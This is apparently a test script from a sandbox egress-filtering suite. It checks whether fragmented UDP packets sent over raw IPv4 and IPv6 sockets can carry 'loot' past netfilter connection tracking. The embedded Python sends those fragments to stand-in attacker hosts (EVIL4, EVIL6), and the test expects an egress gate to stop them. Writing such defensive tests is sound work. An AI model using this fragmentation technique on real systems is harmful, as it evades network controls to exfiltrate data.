#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends fragments, by raw sockets older than the gate, where netfilter tracks connections and so puts them together before the packet hook; some kernels lose the socket in that
# stopped-by: egress
# reason: socket_type
# kernels: all
. "$(dirname "$0")/lib.sh"
need_program nft
arena udp/9000
client nft -f - <<'NFT' || skip "netfilter cannot track connections here"
table inet track {
	chain out {
		type filter hook output priority 0
		ct state new counter
	}
}
NFT

attack_by <<'PYTHON'
from attacker import *

MORE = 0x2000
raw4 = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
ready()
for evil, raw, family in (EVIL4, raw4, "4"), (EVIL6, raw6, "6"):
    body = udp_body(evil, 9000, loot("whole" + family).ljust(64, b"."))
    for offset, more in (0, True), (len(body) // 16 * 8, False):
        part = body[offset:] if not more else body[:len(body) // 16 * 8]
        with attempt(f"fragment at {offset}"):
            if family == "4":
                raw.sendto(ip4(evil, 17, part, fragment=(MORE if more else 0) | offset // 8), (evil, 0))
            else:
                header = struct.pack("!BBHI", 17, 0, offset | (1 if more else 0), 4711)
                raw.sendto(ip6(evil, 44, header + part), (evil, 0))
PYTHON
works_once_open 'stolen:whole4' 'stolen:whole6'
stopped_once_open gate
recorded egress socket_type
